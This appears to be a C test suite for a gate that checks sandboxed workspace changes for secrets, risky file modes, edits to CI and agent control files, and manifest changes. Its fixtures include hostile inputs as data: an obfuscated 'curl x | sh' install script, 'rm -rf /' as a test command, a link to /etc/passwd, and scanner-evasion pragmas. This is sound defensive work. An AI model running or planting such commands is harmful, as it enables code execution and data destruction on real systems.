/* SPDX-License-Identifier: MIT */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <errno.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <string.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "gate/added.h"
#include "gate/control_files.h"
#include "gate/gate.h"
#include "gate/gate_config.h"
#include "gate/gate_report.h"
#include "gate/json_strings.h"
#include "gate/manifest.h"
#include "gate/token_pattern.h"
#include "gated.h"
#include "layered.h"
#include "rules/policy.h"

static int setup(void **state)
{
	*state = layered_new();
	return 0;
}

static int teardown(void **state)
{
	layered_free(*state);
	return 0;
}

/* Added lines */

static void check_added(struct layered *l, const char *old, const char *new, uint64_t lines, uint64_t removed, const char *want)
{
	g_autoptr(tree_t) from = NULL, to = NULL;
	g_autoptr(GPtrArray) changes = NULL;
	g_autoptr(added_t) a = NULL;
	g_autofree char *got = g_strdup(new);

	host_text(l, "f", old);
	view_text(l, "f", new);
	from = tree_open(l->store, l->lower, TREE_LOWER);
	to = tree_open(l->store, l->lower, EPOCH_LIVE);
	changes = layered_changes(l, TREE_LOWER, EPOCH_LIVE, NULL);
	assert_int_equal(changes->len, 1);
	assert_int_equal(added_new(changes->pdata[0], from, to, &a), 0);
	for (size_t i = 0; new[i]; i++)
		if (new[i] != '\n')
			got[i] = added_touches(a, i, i + 1) ? '+' : '.';
	assert_string_equal(got, want);
	assert_int_equal(added_lines(a), lines);
	assert_int_equal(added_removed_lines(a), removed);
}

static void test_added_lines(void **state)
{
	check_added(*state, "a\nb\nc\n", "a\nx\nc\n", 1, 1, ".\n+\n.\n");
}

static void test_added_moved(void **state)
{
	check_added(*state, "a\nb\nc\n", "c\na\nb\n", 0, 0, ".\n.\n.\n");
}

static void test_added_repeated(void **state)
{
	check_added(*state, "a\n", "a\na\na\n", 2, 0, ".\n+\n+\n");
}

static void test_added_last_line(void **state)
{
	check_added(*state, "a\nb", "a\nb\nc", 1, 0, ".\n.\n+");
}

static void test_added_all_removed(void **state)
{
	check_added(*state, "a\nb\n", "", 0, 2, "");
}

/* Secrets */

static void test_secrets_new_lines_only(void **state)
{
	struct layered *l = *state;
	g_autofree char *a = fake_key(1), *b = fake_key(2);
	g_autofree char *old = g_strdup_printf("one\nkey=%s\ntwo\n", a), *edited = g_strdup_printf("ONE\nkey=%s\ntwo\n", a);
	g_autofree char *second = g_strdup_printf("one\nkey=%s\ntwo\nother=%s\n", a, b), *moved = g_strdup_printf("one\ntwo\nkey2=%s\n", a);

	host_text(l, "removed", old);
	host_text(l, "edited", old);
	host_text(l, "second", old);
	host_text(l, "moved", old);
	host_text(l, "renamed", old);
	view_text(l, "removed", "one\ntwo\n");
	view_text(l, "edited", edited);
	view_text(l, "second", second);
	view_text(l, "moved", moved);
	view_rename(l, "renamed", "to");
	view_text(l, "copied", old);
	expect(l, "checks = secrets", "refuse secrets/github-token copied:2\nrefuse secrets/github-token second:4\n");
}

/* Old secrets in touched lines can't use up the list before the new one comes. */
static void test_secrets_behind_old_ones(void **state)
{
	struct layered *l = *state;
	GString *old = g_string_new(NULL), *new = g_string_new(NULL);
	g_autofree char *fresh = fake_key(9999);

	for (unsigned i = 0; i < 200; i++) {
		g_autofree char *key = fake_key(i);

		g_string_append_printf(old, "a=%s\n", key);
		g_string_append_printf(new, "b=%s\n", key);
	}
	g_string_append_printf(new, "c=%s\n", fresh);
	host_text(l, "f", old->str);
	view_text(l, "f", new->str);
	expect(l, "checks = secrets", "refuse secrets/github-token f:201\n");
	g_string_free(old, TRUE);
	g_string_free(new, TRUE);
}

static void test_secrets_everywhere(void **state)
{
	struct layered *l = *state;
	g_autofree char *key = fake_key(3), *name = g_strdup_printf("log-%s.txt", key), *target = g_strdup_printf("x/%s", key);
	g_autoptr(gate_result_t) r = NULL;
	g_autofree char *got = NULL, *want = NULL;

	host_text(l, "x", "x\n");
	view_text(l, name, "nothing\n");
	view_symlink(l, "link", target);
	view_xattr(l, "x", "user.note", key);
	view_text(l, "id_rsa", "opaque\n");
	r = run_with(l, "checks = secrets", NULL, NULL);
	got = findings_text(r);
	want = g_strdup_printf("refuse secrets/github-token link\nrefuse secrets/github-token %s\nrefuse secrets/github-token x\n"
			       "review secrets/key-file id_rsa\n", name);
	assert_string_equal(got, want);
}

/* A key of several lines whose header stays: the body is new. */
static void test_secrets_new_body_under_old_header(void **state)
{
	struct layered *l = *state;
	static const char lines[] = "KJHGkjhg7654lkjhLKJHlkjh98765lkjhLKJHlkjh0987lkjhLKJHlkjh7654abcd";
	g_autofree char *old = g_strdup_printf("-----BEGIN %s KEY-----\nAAAA\n-----END\n", "PRIVATE");
	g_autofree char *new = g_strdup_printf("-----BEGIN %s KEY-----\n%.64s\n%.64s\n-----END\n", "PRIVATE", lines, lines + 1);

	host_text(l, "key", old);
	view_text(l, "key", new);
	expect(l, "checks = secrets", "refuse secrets/private-key key:1\n");
}

/* What was there: attributes of a file that changes otherwise, the name of a file that stays. */
static void test_secrets_that_were_there(void **state)
{
	struct layered *l = *state;
	g_autofree char *key = fake_key(6), *full = g_build_filename(l->workspace, "x", NULL);

	host_text(l, "x", "x\n");
	host_text(l, ".netrc", "x\n");
	if (setxattr(full, "user.note", key, strlen(key), 0) < 0)
		skip();
	view_text(l, "x", "y\n");
	view_text(l, ".netrc", "y\n");
	view_text(l, "new.P12", "y\n");
	expect(l, "checks = secrets", "review secrets/key-file new.P12\n");
}

/* Fifty of one file are enough; the next file has its own. */
static void test_secrets_of_one_file(void **state)
{
	struct layered *l = *state;
	GString *text = g_string_new(NULL);
	g_autoptr(gate_result_t) r = NULL;

	for (unsigned i = 0; i < 60; i++) {
		g_autofree char *key = fake_key(i);

		g_string_append_printf(text, "%s\n", key);
	}
	view_text(l, "a", text->str);
	view_text(l, "b", text->str);
	r = run_with(l, "checks = secrets", NULL, NULL);
	assert_int_equal(r->findings->len, 100);
	g_string_free(text, TRUE);
}

/* What can't be read is never a pass. */
static void expect_unreadable(struct layered *l, const char *settings)
{
	g_autoptr(gate_config_t) config = config_of(settings);
	g_autoptr(tree_t) from = tree_open(l->store, l->lower, TREE_LOWER), to = tree_open(l->store, l->lower, EPOCH_LIVE);
	g_autoptr(GPtrArray) changes = layered_changes(l, TREE_LOWER, EPOCH_LIVE, NULL);
	const struct gate_job job = { .from = from, .to = to, .changes = changes, .config = config };
	struct gate_result *r = NULL;
	g_autoptr(GError) error = NULL;
	g_autofree char *full = g_build_filename(l->workspace, "package.json", NULL);

	assert_int_equal(unlink(full), 0);
	assert_false(gate_run(&job, &r, &error));
	assert_non_null(error);
	assert_non_null(strstr(error->message, "package.json"));
	assert_null(r);
}

static void test_unreadable_old_version(void **state)
{
	static const char *const checks[] = { "checks = secrets", "checks = personal", "checks = manifests", "checks = size" };
	struct layered *l = *state;

	for (size_t i = 0; i < G_N_ELEMENTS(checks); i++) {
		host_text(l, "package.json", "{\n}\n");
		view_text(l, "package.json", "{}\n");
		expect_unreadable(l, checks[i]);
	}
}

static void test_unreadable_new_version(void **state)
{
	struct layered *l = *state;

	host_text(l, "package.json", "{}\n");
	view_mkdir(l, "d");
	view_rename(l, "package.json", "d/package.json");
	expect_unreadable(l, "checks = manifests");
}

/* Nothing that the sandboxed program can write is asked. */
static void test_secrets_no_excuse_from_inside(void **state)
{
	struct layered *l = *state;
	g_autofree char *key = fake_key(4), *text = g_strdup_printf("key=%s # gitleaks:allow nosec pragma: allowlist secret sbxfs:ignore\n", key);

	view_text(l, ".gitleaksignore", "a:generic:1\n");
	view_text(l, ".gitleaks.toml", "[allowlist]\npaths = ['.*']\n");
	view_text(l, ".gitattributes", "* binary -diff\n");
	view_text(l, ".gitignore", "*\n");
	view_text(l, ".sbxfs.ini", "[profile x]\n[gate x]\nchecks = none\nsecret_paths = **\n");
	view_text(l, "a", text);
	expect(l, "checks = secrets", "refuse secrets/github-token a:1\n");
}

static void test_secrets_excuses_of_the_policy(void **state)
{
	struct layered *l = *state;
	g_autofree char *key = fake_key(5), *text = g_strdup_printf("key=%s\n", key), *word = g_strndup(key + 10, 8);
	g_autofree char *by_word = g_strdup_printf("checks = secrets\nsecret_words = %s", word), *baseline = g_build_filename(l->dir, "baseline", NULL);
	g_autofree char *by_baseline = g_strdup_printf("checks = secrets\nbaseline = %s", baseline);
	g_autoptr(gate_result_t) r = NULL;
	g_autofree char *known = NULL;

	view_mkdir(l, "d");
	view_text(l, "d/a", text);
	expect(l, "checks = secrets\nsecret_paths = d/", "");
	expect(l, "checks = secrets\nsecret_paths = e/", "refuse secrets/github-token d/a:1\n");
	expect(l, by_word, "");
	expect(l, "checks = secrets\nsecret_words = another", "refuse secrets/github-token d/a:1\n");
	r = run_with(l, "checks = secrets", NULL, NULL);
	known = g_strdup_printf("# known\n%s d/a, revoked\n", ((struct gate_finding *)r->findings->pdata[0])->fingerprint);
	g_assert_true(g_file_set_contents(baseline, known, -1, NULL));
	g_chmod(baseline, 0600);
	expect(l, by_baseline, "");
	/* It knows one value in one file. */
	view_text(l, "d/b", text);
	expect(l, by_baseline, "refuse secrets/github-token d/b:1\n");
}

static void test_config_values(void **state)
{
	g_autoptr(gate_config_t) c = config_of("max_size = 2K\nmax_lines = 3M\ntest_time = 2m\nallow = re:^(ab){1,2}/"),
				 d = config_of("max_size = 7\ntest_time = 3h\nallow = a, b\\,c"), e = config_of("test_time = 90s");

	(void)state;
	assert_int_equal(c->limits.size, 2048);
	assert_int_equal(c->limits.lines, 3 << 20);
	assert_int_equal(c->test_seconds, 120);
	assert_int_equal(c->allow[1]->len, 1);
	assert_true(gate_patterns_match(c->allow[1], "abab/x", false, false));
	assert_int_equal(d->limits.size, 7);
	assert_int_equal(d->test_seconds, 3 * 3600);
	assert_int_equal(d->allow[1]->len, 2);
	assert_true(gate_patterns_match(d->allow[1], "b,c", false, false));
	assert_int_equal(e->test_seconds, 90);
	assert_false(gate_config_set_checks(c, "", NULL));
	assert_false(gate_config_set_checks(c, "secrets, nothing", NULL));
	assert_true(gate_config_set_checks(c, "secrets, tests", NULL));
	assert_int_equal(c->checks, 1u << GATE_SECRETS | 1u << GATE_TESTS);
	assert_true(c->tests_named);
}

static void expect_config_error(const char *settings, const char *workspace, const char *want)
{
	struct policy *p = policy_of(settings);
	g_autoptr(GError) error = NULL;

	assert_null(gate_config_new(p, workspace, &error));
	if (!strstr(error->message, want))
		fail_msg("\"%s\" says \"%s\", not \"%s\"", settings, error->message, want);
	policy_free(p);
}

static void test_config_errors(void **state)
{
	struct layered *l = *state;
	g_autofree char *inside = g_build_filename(l->workspace, "baseline", NULL), *open = g_build_filename(l->dir, "open", NULL);
	g_autofree char *in_workspace = g_strdup_printf("baseline = %s", inside), *by_all = g_strdup_printf("baseline = %s", open);

	host_text(l, "baseline", "");
	g_assert_true(g_file_set_contents(open, "", 0, NULL));
	g_chmod(open, 0666);
	expect_config_error("checks = secret", l->workspace, "there is no check \"secret\"");
	expect_config_error("checks = none, secrets", l->workspace, "stands alone");
	expect_config_error("allow = re:(", l->workspace, "p.ini:3");
	expect_config_error("max_files = many", l->workspace, "must be a number");
	expect_config_error("max_files = -1", l->workspace, "must be a number");
	expect_config_error("max_size = 99999999999G", l->workspace, "must be a number");
	expect_config_error("test_time = 2d", l->workspace, "must be a time");
	expect_config_error("secret_words = abc", l->workspace, "would excuse too much");
	expect_config_error("baseline = here", l->workspace, "absolute path");
	expect_config_error("baseline = /no/such/file", l->workspace, "No such file");
	expect_config_error(in_workspace, l->workspace, "lies in the workspace");
	expect_config_error(by_all, l->workspace, "only its owner");
}

/* Layers */

#define BIT(check) (1u << (check))

static void test_layers(void **state)
{
	g_autoptr(gate_config_t) c = NULL;

	(void)state;
	c = layered_config("checks = secrets\nmax_files = 10\ntest = managed\nallow = src/",
			   "checks = none\nmax_files = 500\ntest = user\nallow = **\nsecret_paths = **\nsecret_words = word", "");
	assert_int_equal(c->checks, BIT(GATE_SECRETS));
	assert_int_equal(c->limits.files, 10);
	assert_string_equal(c->test, "managed");
	assert_int_equal(c->secret_paths->len, 0);
	assert_int_equal(c->secret_words->len, 0);
	assert_non_null(c->allow[0]);
	assert_non_null(c->allow[1]);
}

static void test_workspace_layer_only_tightens(void **state)
{
	g_autoptr(gate_config_t) c = NULL;

	(void)state;
	c = layered_config("", "checks = secrets\nmax_files = 5", "checks = modes\nreview = x\nmax_files = 1000\ntest = rm -rf /\nallow = **\n"
			   "secret_paths = **\nsecret_words = word\nbaseline = /dev/null");
	assert_int_equal(c->checks, BIT(GATE_SECRETS) | BIT(GATE_MODES));
	assert_int_equal(c->review->len, 1);
	assert_int_equal(c->limits.files, 5);
	assert_null(c->test);
	assert_null(c->allow[1]);
	assert_int_equal(c->secret_paths->len, 0);
	assert_int_equal(c->secret_words->len, 0);
	assert_null(c->baseline);
}

static void test_default_checks(void **state)
{
	g_autoptr(gate_config_t) c = config_of("max_files = 1"), none = config_of("checks = none"), more = config_of("checks = all, personal");

	(void)state;
	assert_int_equal(c->checks, (BIT(GATE_CHECKS) - 1) & ~BIT(GATE_PERSONAL));
	assert_int_equal(none->checks, 0);
	assert_int_equal(more->checks, BIT(GATE_CHECKS) - 1);
}

/* The other checks */

static void test_scope(void **state)
{
	struct layered *l = *state;

	host_text(l, "src/a", "x\n");
	host_text(l, "other/b", "x\n");
	host_text(l, "other/c", "x\n");
	view_text(l, "src/a", "y\n");
	view_text(l, "src/yarn.lock", "y\n");
	view_text(l, "other/b", "y\n");
	view_rename(l, "other/c", "src/c");
	view_mkdir(l, "new");
	view_mkdir(l, "new/lib");
	view_text(l, "new/lib/d", "y\n");
	view_mkdir(l, "elsewhere");
	expect(l, "checks = scope\nallow = /src/, /new/lib/\nreview = re:(^|/)yarn\\.lock$",
	       "refuse scope/outside elsewhere\nrefuse scope/outside other/b\nrefuse scope/outside other/c\nreview scope/review src/yarn.lock\n");
	expect(l, "checks = scope", "");
}

static void test_modes(void **state)
{
	struct layered *l = *state;

	host_text(l, "run", "x\n");
	host_text(l, "open", "x\n");
	host_text(l, "owner", "x\n");
	host_text(l, "cap", "x\n");
	view_chmod(l, "run", 0755);
	view_chmod(l, "open", 0666);
	view_chown(l, "owner", 4711);
	view_xattr(l, "cap", "security.capability", "x");
	view_text(l, "suid", "x\n");
	view_chmod(l, "suid", 04755);
	view_mkfifo(l, "fifo");
	view_mkdir(l, "d");
	view_mkdir(l, "d/e");
	view_symlink(l, "d/ok", "../run");
	view_symlink(l, "d/up", "../../x");
	view_symlink(l, "abs", "/etc/passwd");
	view_symlink(l, "deep", "d/e");
	/* By its text it stays inside; through the link before it does not. */
	view_symlink(l, "d/e/top", "../..");
	view_symlink(l, "d/e/out", "top/../x");
	view_symlink(l, "loop", "loop");
	expect(l, "checks = modes",
	       "refuse modes/link-outside abs\nrefuse modes/capability cap\nrefuse modes/link-outside d/e/out\nrefuse modes/link-outside d/up\n"
	       "refuse modes/setuid suid\nreview modes/special-file fifo\nreview modes/world-writable open\nreview modes/owner owner\n"
	       "review modes/executable run\nreview modes/executable suid\n");
}

/* What is no news: a type and bits that were there before; what a name in the path goes through. */
static void test_modes_of_what_was_there(void **state)
{
	struct layered *l = *state;

	host_mkdir(l, "group");
	host_text(l, "gone", "x\n");
	host_text(l, "named", "x\n");
	host_symlink(l, "link", "named");
	host_symlink(l, "out", "/etc");
	host_text(l, "run", "x\n");
	view_chmod(l, "group", 02775);
	view_remove(l, "gone");
	view_device(l, "null", makedev(1, 3));
	view_mkdir(l, "d");
	view_symlink(l, "d/dots", "./..//d/../named");
	view_symlink(l, "d/missing", "no/such/../../../named");
	/* The same text leads elsewhere from here; and one that was outside already is news under a new name. */
	view_rename(l, "link", "d/link");
	view_rename(l, "out", "d/out");
	view_chmod(l, "run", 0700);
	expect(l, "checks = modes",
	       "refuse modes/link-outside d/out\nrefuse modes/device null\nreview modes/setgid-directory group\nreview modes/executable run\n");
}

static void test_size(void **state)
{
	struct layered *l = *state;

	for (int i = 0; i < 30; i++) {
		g_autofree char *path = g_strdup_printf("d/f%d", i);

		host_text(l, path, "one\ntwo\n");
		if (i < 20)
			view_remove(l, path);
	}
	view_text(l, "d/f25", "one\n2\n");
	view_text(l, "big", "0123456789");
	view_mkdir(l, "no-file");
	expect(l, "checks = size", "review size/share *\n");
	expect(l, "checks = size\nmax_share = 70", "review size/share *\n");
	expect(l, "checks = size\nmax_share = 71", "");
	expect(l, "checks = size\nmax_share = 100\nmax_files = 21\nmax_deleted = 19\nmax_lines = 42\nmax_size = 9",
	       "review size/files *\nreview size/lines *\nreview size/deletions *\nreview size/large-file big\n");
	expect(l, "checks = size\nmax_share = 100\nmax_files = 22\nmax_deleted = 20\nmax_lines = 43\nmax_size = 10", "");
	/* A file that a directory took the place of is gone. */
	view_remove(l, "d/f26");
	view_mkdir(l, "d/f26");
	expect(l, "checks = size\nmax_share = 100\nmax_files = 22", "review size/files *\n");
}

static void test_personal(void **state)
{
	struct layered *l = *state;

	host_text(l, "old", "mail jane.doe@corp.io\n");
	view_text(l, "old", "mail jane.doe@corp.io\nmore\n");
	view_text(l, "a", "jane.doe@corp.io\n5425 2334 3010 9903\ncall +49 30 1234567\n");
	view_text(l, "clean", "user@example.com git@github.com:a/b icon@2x.png 1234567890123456 5425233430109904 0x5425233430109903\n"
			      "sha 5425233430109903abcdef 1.2.3.4 2024-01-15 10:30:00 4111111111111111 a@b @decorator\n");
	expect(l, "checks = personal", "review personal/email a:1\nreview personal/card-number a:2\nreview personal/phone a:3\n");
}

static void test_control(void **state)
{
	static const struct {
		const char *path;
		enum control_kind kind;
	} rows[] = {
		{ ".github/workflows/ci.yml", CONTROL_CI }, { "sub/.GitHub/x", CONTROL_CI }, { "Jenkinsfile", CONTROL_CI },
		{ ".git/hooks/pre-commit", CONTROL_GIT_CODE }, { "a/.git/config", CONTROL_GIT_CODE }, { ".git", CONTROL_GIT_CODE },
		{ ".GIT/config", CONTROL_GIT_CODE }, { "git~1/config", CONTROL_GIT_CODE }, { ".git /hooks/x", CONTROL_GIT_CODE },
		{ ".g\xe2\x80\x8cit/config", CONTROL_GIT_CODE }, { ".git::$INDEX_ALLOCATION/hooks/x", CONTROL_GIT_CODE },
		{ ".git/objects/aa/bb", CONTROL_GIT }, { ".git/index", CONTROL_GIT }, { ".gitmodules", CONTROL_GIT },
		{ ".claude/settings.json", CONTROL_AGENT }, { "AGENTS.md", CONTROL_AGENT }, { "x/CLAUDE.md", CONTROL_AGENT },
		{ ".mcp.json", CONTROL_AGENT }, { ".vscode/tasks.json", CONTROL_AGENT }, { ".cursor/rules", CONTROL_AGENT },
		{ ".codex/config.toml", CONTROL_AGENT }, { ".devcontainer.json", CONTROL_AGENT }, { ".hg/hgrc", CONTROL_SHELL }, { "Dockerfile", CONTROL_DEPLOY }, { "app.Dockerfile", CONTROL_DEPLOY },
		{ "infra/main.tf", CONTROL_DEPLOY }, { "net.tf", CONTROL_DEPLOY }, { "k8s/a.yaml", CONTROL_DEPLOY },
		{ "CODEOWNERS", CONTROL_PERMISSION }, { "nginx.conf", CONTROL_NETWORK }, { "src/billing/x.c", CONTROL_BILLING },
		{ "src/stripe_webhook.py", CONTROL_BILLING }, { ".npmrc", CONTROL_SHELL }, { ".sbxfs.ini", CONTROL_POLICY },
		{ "src/main.c", CONTROL_NONE }, { "README.md", CONTROL_NONE }, { "gitlab/x.c", CONTROL_NONE }, { ".gitignore", CONTROL_NONE },
		{ "docs/github.md", CONTROL_NONE }, { "\xff/\xfe", CONTROL_NONE }, { "", CONTROL_NONE },
	};
	struct layered *l = *state;
	g_autofree char *filler = g_strnfill(256 * 1024 - 5, '#'), *far = g_strconcat("kind: x\n", filler, "\napiVersion: v1\n", NULL);

	for (size_t i = 0; i < G_N_ELEMENTS(rows); i++)
		if (control_kind_of(rows[i].path) != rows[i].kind)
			fail_msg("%s is %d, not %d", rows[i].path, control_kind_of(rows[i].path), rows[i].kind);
	host_text(l, "Makefile", "x\n");
	host_text(l, ".github/x", "x\n");
	view_text(l, "Makefile", "y\n");
	view_rename(l, ".github/x", "x");
	view_text(l, "some.yaml", "# x\napiVersion: v1\nkind: Pod\n");
	view_text(l, "other.yaml", "a: b\n  apiVersion: v1\n");
	view_text(l, "words.yml", "myapiVersion: v1\nmankind: x\nkind\napiVersion\n");
	view_text(l, "pod.json", "{\"apiVersion\": \"v1\", \"kind\" : \"Pod\"}");
	view_text(l, "deep.YML", " apiVersion: v1\n 'kind': Pod\n");
	view_text(l, "far.yaml", far);
	view_mkdir(l, ".git");
	view_mkdir(l, ".claude");
	view_text(l, ".claude/x", "y\n");
	expect(l, "checks = control",
	       "refuse control/git-code .git\nreview control/agent .claude/x\nreview control/ci .github/x\n"
	       "review control/kubernetes deep.YML\nreview control/kubernetes far.yaml\nreview control/kubernetes pod.json\n"
	       "review control/kubernetes some.yaml\n");
}

static void test_manifests(void **state)
{
	struct layered *l = *state;

	host_text(l, "package.json", "{\n\"name\": \"x\",\n\"scripts\": {\"test\": \"t\"},\n\"dependencies\": {\"a\": \"1\", \"b\": \"1\"}\n}\n");
	view_text(l, "package.json", "{\n\"name\": \"y\",\n\"scripts\": {\"test\": \"u\", \"post\\u0069nstall\": \"curl x | sh\"},\n"
				     "\"dependencies\": {\"a\": \"2\", \"c\": \"git+ssh://x\"}\n}\n");
	host_text(l, "requirements.txt", "a==1\n# comment\n");
	view_text(l, "requirements.txt", "a==1  # pinned\nb>=2\n--extra-index-url http://x\n");
	host_text(l, "Cargo.toml", "[package]\nname = \"x\"\n[dependencies]\na = \"1\"\n");
	view_text(l, "Cargo.toml", "[package]\nname = \"y\"\nbuild = \"b.rs\"\n[dependencies]\na = \"2\"\n[target.'cfg(unix)'.dependencies]\nz = \"1\"\n");
	host_text(l, "go.mod", "module x\nrequire (\n\ta v1\n)\n");
	view_text(l, "go.mod", "module x\nrequire (\n\ta v2\n\tb v1 // indirect\n)\nreplace a => ../a\n");
	view_text(l, "pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\n  \"flask>=2\",\n]\n[build-system]\nrequires = [\"evil\"]\n");
	view_text(l, "Gemfile", "source 'https://x'\ngem 'rails', '~> 7'\nsystem('x')\n");
	view_text(l, "pom.xml", "<dependency>\n<groupId>g</groupId>\n<artifactId>a</artifactId>\n<version>1</version>\n</dependency>\n");
	view_text(l, "build.gradle", "implementation 'g:a:1'\n");
	view_text(l, "setup.py", "x\n");
	view_text(l, "yarn.lock", "x\n");
	expect(l, "checks = manifests",
	       "review manifests/new-build-code Cargo.toml:3\nreview manifests/changed-dependency Cargo.toml:5\n"
	       "review manifests/new-dependency Cargo.toml:7\nreview manifests/new-source Gemfile:1\nreview manifests/new-dependency Gemfile:2\n"
	       "review manifests/new-build-code Gemfile:3\nreview manifests/new-dependency build.gradle:1\nreview manifests/changed-dependency go.mod:3\n"
	       "review manifests/new-dependency go.mod:4\nreview manifests/new-source go.mod:6\nreview manifests/new-install-script package.json:3\n"
	       "review manifests/changed-script package.json:3\nreview manifests/changed-dependency package.json:4\n"
	       "review manifests/new-dependency package.json:4\nreview manifests/new-dependency pom.xml:1\n"
	       "review manifests/new-dependency pyproject.toml:4\nreview manifests/new-dependency pyproject.toml:7\n"
	       "review manifests/new-dependency requirements.txt:2\nreview manifests/new-source requirements.txt:3\n"
	       "review manifests/build-code setup.py\nreview manifests/lock-file yarn.lock\n");
}

static void test_manifest_unreadable(void **state)
{
	struct layered *l = *state;

	g_autofree char *blanks = g_strnfill(4 * 1024 * 1024, '\n'), *large = g_strconcat(blanks, "{}", NULL);

	view_text(l, "package.json", "{\"dependencies\": {\"a\": \"1\"},}");
	view_symlink(l, "Cargo.toml", "x");
	view_mkdir(l, "d");
	view_text(l, "d/package.json", large);
	expect(l, "checks = manifests",
	       "review manifests/unreadable Cargo.toml\nreview manifests/unreadable d/package.json\nreview manifests/unreadable package.json\n");
}

/* A directory is none, a mode does not matter, a new place and a deletion do. */
static void test_manifests_change_otherwise(void **state)
{
	struct layered *l = *state;

	host_text(l, "yarn.lock", "x\n");
	host_text(l, "Cargo.lock", "x\n");
	host_text(l, "go.mod", "module x\n");
	host_text(l, "setup.cfg", "x\n");
	host_text(l, "x/go.sum", "x\n");
	view_chmod(l, "yarn.lock", 0600);
	view_remove(l, "Cargo.lock");
	view_remove(l, "go.mod");
	view_text(l, "setup.cfg", "y\n");
	view_mkdir(l, "package.json");
	view_rename(l, "x/go.sum", "go.sum");
	expect(l, "checks = manifests",
	       "review manifests/deleted Cargo.lock\nreview manifests/deleted go.mod\nreview manifests/lock-file go.sum\n"
	       "review manifests/changed setup.cfg\n");
}

static bool count_strings(const char *const *keys, unsigned depth, const char *value, uint64_t line, void *user)
{
	(void)keys;
	(void)depth;
	(void)value;
	(void)line;
	(*(unsigned *)user)++;
	return true;
}

static void test_json_strings(void **state)
{
	static const char *const good[] = { "{}", "[]", " {\"a\": [1, -2.5e3, true, null, \"x\", {\"b\": \"y\"}]} ", "\"x\"", "1", "{\"\\ud83d\\ude00\":\"\"}",
					    "\xef\xbb\xbf{\"a\":\"b\"}", "\"\\n\\t\\b\\f\\r\\\\\\/\\\"\\u00e9\"" };
	static const char *const bad[] = { "", "{", "[", "{\"a\"}", "{\"a\":}", "{\"a\":1,}", "[1,]", "[1 2]", "{a:1}", "\"x", "\"\\x\"", "\"\\u12\"",
					   "\"\\ud83d\"", "\"\n\"", "{} {}", "]", "// x\n{}", "\"\\u12g4\"", "\"\\udc00\"", "\"\\ud83d\\u0041\"", "\"\\", "\"\\u", "{\"a\":\"b\"]" };
	GString *deep = g_string_new(NULL);
	unsigned n = 0;

	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(good); i++)
		if (!json_strings(good[i], strlen(good[i]), count_strings, &n))
			fail_msg("refused: %s", good[i]);
	for (size_t i = 0; i < G_N_ELEMENTS(bad); i++)
		if (json_strings(bad[i], strlen(bad[i]), count_strings, &n))
			fail_msg("taken: %s", bad[i]);
	for (int i = 0; i < 1000000; i++)
		g_string_append_c(deep, '[');
	assert_false(json_strings(deep->str, deep->len, count_strings, &n));
	g_string_free(deep, TRUE);
}

/* Whatever bytes come, the parsers come to an end. */
static void test_manifests_of_noise(void **state)
{
	static const char letters[] = "[]{}\"':,=\\\n\n #ab<>/.-(\x01\xff";
	GRand *rand = g_rand_new_with_seed(1);

	(void)state;
	for (int round = 0; round < 3000; round++) {
		char text[400];
		size_t size = (size_t)g_rand_int_range(rand, 0, sizeof(text));

		for (size_t i = 0; i < size; i++)
			text[i] = letters[g_rand_int_range(rand, 0, sizeof(letters) - 1)];
		for (int kind = MANIFEST_NPM; kind <= MANIFEST_LOCK; kind++) {
			g_autoptr(GHashTable) items = manifest_items((enum manifest_kind)kind, text, size);
		}
	}
	g_rand_free(rand);
}

static void test_token_patterns(void **state)
{
	static const struct {
		const char *pattern, *text;
		size_t want;
	} rows[] = {
		{ "ab[0-9]{2,3}", "ab12", 4 }, { "ab[0-9]{2,3}", "ab1234", 5 }, { "ab[0-9]{2,3}", "ab1", 0 }, { "a.b", "axb", 0 }, { "a.b", "a.b", 3 },
		{ "a[^x]?b", "ab", 0 }, { "ax?b", "ab", 2 }, { "ab[a-c-]{1,}", "abc-a!", 5 }, { "a\\{b", "a{b", 3 }, { "ab", "", 0 }, { "ab={0,2}", "ab===", 4 },
	};

	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(rows); i++) {
		struct token_pattern *p = token_pattern_new(rows[i].pattern);

		if (token_pattern_match(p, (const uint8_t *)rows[i].text, strlen(rows[i].text)) != rows[i].want)
			fail_msg("%s on %s", rows[i].pattern, rows[i].text);
		token_pattern_free(p);
	}
}

/* Tests */

static void expect_test(struct layered *l, const char *settings, bool view, const char *reason, const char *want)
{
	g_autoptr(gate_result_t) r = run_with(l, settings, view ? l->workspace : NULL, reason);
	g_autofree char *got = findings_text(r);

	assert_string_equal(got, want);
}

static void test_tests(void **state)
{
	struct layered *l = *state;
	gint64 start;

	host_text(l, "here", "x\n");
	view_text(l, "a", "x\n");
	expect_test(l, "checks = tests\ntest = test -f here && test \"$SBXFS\" = 1 && ! read x", true, NULL, "pass tests/passed *\n");
	expect_test(l, "checks = tests\ntest = echo no; exit 3", true, NULL, "refuse tests/failed *\n");
	expect_test(l, "checks = tests\ntest = echo no; exit 3", true, "flaky", "review tests/failed *\n");
	expect_test(l, "checks = tests\ntest = true", false, NULL, "review tests/missing *\n");
	expect_test(l, "checks = tests\ntest = true", false, "docs only", "pass tests/missing *\n");
	expect_test(l, "checks = tests", true, NULL, "review tests/missing *\n");
	expect_test(l, "checks = tests", true, "docs only", "pass tests/missing *\n");
	start = g_get_monotonic_time();
	expect_test(l, "checks = tests\ntest_time = 1\ntest = sleep 60 & sleep 60", true, NULL, "refuse tests/failed *\n");
	/* What it leaves behind holds nothing up. */
	expect_test(l, "checks = tests\ntest = sleep 60 &", true, NULL, "pass tests/passed *\n");
	expect_test(l, "checks = tests\ntest = yes | head -c 3000000; exit 1", true, NULL, "refuse tests/failed *\n");
	assert_true(g_get_monotonic_time() - start < 20 * G_USEC_PER_SEC);
}

static void test_no_tests_by_default(void **state)
{
	struct layered *l = *state;
	g_autoptr(gate_result_t) r = NULL;

	view_text(l, "a", "x\n");
	r = run_with(l, "checks = all", NULL, NULL);
	assert_int_equal(r->verdict, GATE_PASS);
}

/* Reports */

static void collect(const char *data, size_t size, void *user)
{
	g_string_append_len(user, data, size);
}

static JsonObject *parse(JsonParser *parser, const GString *text)
{
	g_assert_true(json_parser_load_from_data(parser, text->str, text->len, NULL));
	return json_node_get_object(json_parser_get_root(parser));
}

static void test_reports(void **state)
{
	struct layered *l = *state;
